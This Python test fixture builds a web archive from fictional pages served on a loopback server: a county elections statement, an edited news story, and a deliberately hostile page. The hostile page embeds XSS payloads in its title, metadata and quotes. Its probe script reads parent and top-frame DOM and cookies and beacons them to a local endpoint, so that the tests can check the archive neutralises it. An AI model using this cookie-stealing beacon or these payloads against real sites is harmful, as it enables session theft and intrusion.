"""A small archive for the web tests, built for real: pages served from a loopback
server, captured with the pipeline, indexed with the index builder.

    with LoopbackServer() as server:
        built = build_web_archive(tmp_path / "archive", server)
        app = create_app({"ARCHIVE": str(built.root), "TESTING": True})

The pages (all text written for these tests):

- an official statement by a county elections office, quoting its director;
- a news story quoting the statement (a shortened variant of its words), an unnamed
  official, and a poll watcher as reported through another outlet; captured twice, the
  second time edited, so it has two versions, a diff and an "edited" event;
- a hostile page whose title, author, publisher and quotes carry markup meant to break
  out of HTML, and whose script tries to reach the app's DOM and cookies and to report
  what it found to ``/beacon`` on the loopback server.
"""

from __future__ import annotations

import time
from dataclasses import dataclass
from pathlib import Path

from archive import ids
from archive.catalog import Catalog
from archive.store import Paths, Store, init_archive
from scrapers.http import HttpConfig, PoliteSession
from scrapers.pipeline import Pipeline
from tests.loopback import LoopbackServer
from web import indexing

HTML = {"Content-Type": "text/html; charset=utf-8"}

STATEMENT = """<!doctype html>
<html lang="en"><head><meta charset="utf-8">
<title>County certifies the November count | Brightwater County Elections Office</title>
<meta property="og:site_name" content="Brightwater County Elections Office">
<meta name="author" content="Office of the County Clerk">
<meta property="article:published_time" content="2026-11-04T15:00:00Z">
</head><body>
<nav><a href="/">Home</a> <a href="/press">Press</a></nav>
<article>
<h1>County certifies the November count</h1>
<p>BRIGHTWATER — The county canvassing board certified the November results on Wednesday \
after an audit of paper ballots drawn at random from every precinct.</p>
<p>“Every valid ballot was counted, and every count will be published in full,” said \
Dana Whitfield, the county's elections director.</p>
<p>The board voted four to one. The audit report will be posted on the county website.</p>
<p>“The audit matched the machines in all forty precincts we checked,” Whitfield said.</p>
</article>
<footer>Brightwater County. Privacy notice.</footer>
</body></html>
"""

NEWS = """<!doctype html>
<html lang="en"><head><meta charset="utf-8">
<title>Audit backs Brightwater tally | The Harbour Gazette</title>
<meta property="og:site_name" content="The Harbour Gazette">
<meta name="author" content="Maria Lopez">
<meta property="article:published_time" content="2026-11-05T08:00:00Z">
</head><body>
<article>
<h1>Audit backs Brightwater tally</h1>
<p>Brightwater County's election results were certified on {when}, ending a week of \
questions about the new scanners.</p>
<p>“Every valid ballot was counted, and every count will be published,” said Dana \
Whitfield, the county's elections director, in a statement.</p>
<p>“We expect the recount requests to be settled within a week,” said a senior county \
official who was not authorized to speak publicly.</p>
<p>Tomas Ferreira, a poll watcher, told Reuters that the process was “open to observers \
from both parties.”</p>
{extra}
</article>
</body></html>
"""

NEWS_EDIT = (
    "<p>A correction was appended: an earlier version of this story misstated the number"
    " of precincts audited.</p>"
)

# Markup meant to escape from the page: the parser turns the entities into literal text.
SCRIPT = "<script>alert('onrecord')</script>"
IMG = '"><img src=x onerror=alert(1)>'

HOSTILE = """<!doctype html>
<html lang="en"><head><meta charset="utf-8">
<title>&lt;script&gt;alert('onrecord')&lt;/script&gt; Leaked memo &quot;&gt;&lt;img src=x \
onerror=alert(1)&gt;</title>
<meta property="og:site_name" content="&quot;&gt;&lt;img src=x onerror=alert(1)&gt; Daily">
<meta name="author" content="&lt;script&gt;alert('onrecord')&lt;/script&gt; Writer">
<meta property="article:published_time" content="2026-11-06T10:00:00Z">
<script src="/probe.js"></script>
</head><body>
<article>
<h1>&lt;script&gt;alert('onrecord')&lt;/script&gt; Leaked memo</h1>
<p>The memo circulated among county staff on Friday morning before it was withdrawn.</p>
<p>“&lt;script&gt;alert('onrecord')&lt;/script&gt; is what the attackers typed into the \
form,” said Priya Natarajan, the county's &lt;b&gt;security&lt;/b&gt; officer.</p>
<p>Natarajan added a warning: “Nobody should click &quot;&gt;&lt;img src=x \
onerror=alert(1)&gt; in any message.”</p>
</article>
<script>probe();</script>
</body></html>
"""

# What the hostile page's script tries: read the embedding app's DOM and cookies, then
# report to the loopback server. It must never run inside the archive's pages.
PROBE = """
function probe() {
  var found = [];
  try { found.push("parent-title=" + window.parent.document.title); }
  catch (e) { found.push("parent-blocked"); }
  try { found.push("top-cookie=" + window.top.document.cookie); }
  catch (e) { found.push("top-blocked"); }
  try { found.push("cookie=" + document.cookie); }
  catch (e) { found.push("cookie-blocked"); }
  var report = encodeURIComponent(found.join("|"));
  try { fetch("{beacon}?" + report, {mode: "no-cors"}); } catch (e) {}
  new Image().src = "{beacon}?img=" + report;
}
"""


@dataclass(frozen=True)
class WebArchive:
    """What the tests need to find in the archive they were given."""

    root: Path
    statement_url: str
    news_url: str
    hostile_url: str
    statement: str  # document ids
    news: str
    hostile: str
    pledge: str  # quote ids: the director's words in the statement
    variant: str  # the shortened words in the news story
    unnamed: str  # the unnamed official
    reported: str  # the poll watcher, via another outlet
    hostile_quote: str
    hostile_img_quote: str
    old_pledge: str  # an id an older extraction issued, now an alias of `pledge`
    director: str  # speaker id of Dana Whitfield
    old_director: str  # a speaker id an older extraction issued, now an alias of `director`


def _quote_containing(catalog: Catalog, document_id: str, words: str) -> str:
    document = catalog.document(document_id)
    extraction = catalog.current_extraction(document.latest_version_id)
    for quote in catalog.quotes_of_extraction(extraction.id):
        if words in quote.text:
            return quote.id
    found = [q.text for q in catalog.quotes_of_extraction(extraction.id)]
    raise AssertionError(f"no quote with {words!r} in {document_id}: {found}")


def serve_pages(server: LoopbackServer) -> None:
    server.route("/press/certified-count", status=200, body=STATEMENT, headers=HTML)
    server.route(
        "/news/audit-story",
        status=200,
        body=NEWS.format(when="Wednesday", extra=""),
        headers=HTML,
    )
    server.route("/hostile/memo", status=200, body=HOSTILE, headers=HTML)
    server.route(
        "/probe.js",
        status=200,
        body=PROBE.replace("{beacon}", server.url("/beacon")),
        headers={"Content-Type": "text/javascript"},
    )
    server.route("/beacon", status=204)


def build_web_archive(root: Path, server: LoopbackServer) -> WebArchive:
    """Capture the pages into a new archive at ``root`` and index them."""
    serve_pages(server)
    init_archive(root)
    (root / "onrecord.toml").write_text(
        "[onrecord]\nallow_private = true\ndelay = 0.0\n", encoding="utf-8"
    )
    statement_url = server.url("/press/certified-count")
    news_url = server.url("/news/audit-story")
    hostile_url = server.url("/hostile/memo")
    with (
        Store.open(root) as store,
        PoliteSession(HttpConfig(allow_private=True, delay=0.0, obey_robots=False)) as http,
    ):
        pipeline = Pipeline(store, http)
        for url in (statement_url, news_url, hostile_url):
            pipeline.capture(url)
        # Wayback timestamps have one-second resolution: the edit is a later second.
        time.sleep(1.05)
        server.route(
            "/news/audit-story",
            status=200,
            body=NEWS.format(when="Wednesday evening", extra=NEWS_EDIT),
            headers=HTML,
        )
        pipeline.capture(news_url)
        catalog = store.catalog
        indexing.catch_up(Paths(root), catalog)
        statement = ids.doc_id(ids.canonical_url(statement_url))
        news = ids.doc_id(ids.canonical_url(news_url))
        hostile = ids.doc_id(ids.canonical_url(hostile_url))
        pledge = _quote_containing(catalog, statement, "published in full")
        old_pledge = ids.quote_id(statement, "Every valid ballot was counted (first draft)")
        director = catalog.quote(pledge).speaker_id
        # the director as an older attributor named her, title and all
        old_director = ids.speaker_id("County Elections Director Dana Whitfield")
        with catalog.transaction():
            catalog.add_quote_alias(old_pledge, pledge)
            catalog.add_speaker_alias(old_director, director)
        return WebArchive(
            root=root,
            statement_url=statement_url,
            news_url=news_url,
            hostile_url=hostile_url,
            statement=statement,
            news=news,
            hostile=hostile,
            pledge=pledge,
            variant=_quote_containing(catalog, news, "every count will be published"),
            unnamed=_quote_containing(catalog, news, "recount requests"),
            reported=_quote_containing(catalog, news, "open to observers"),
            hostile_quote=_quote_containing(catalog, hostile, "<script>"),
            hostile_img_quote=_quote_containing(catalog, hostile, "onerror"),
            old_pledge=old_pledge,
            director=director,
            old_director=old_director,
        )
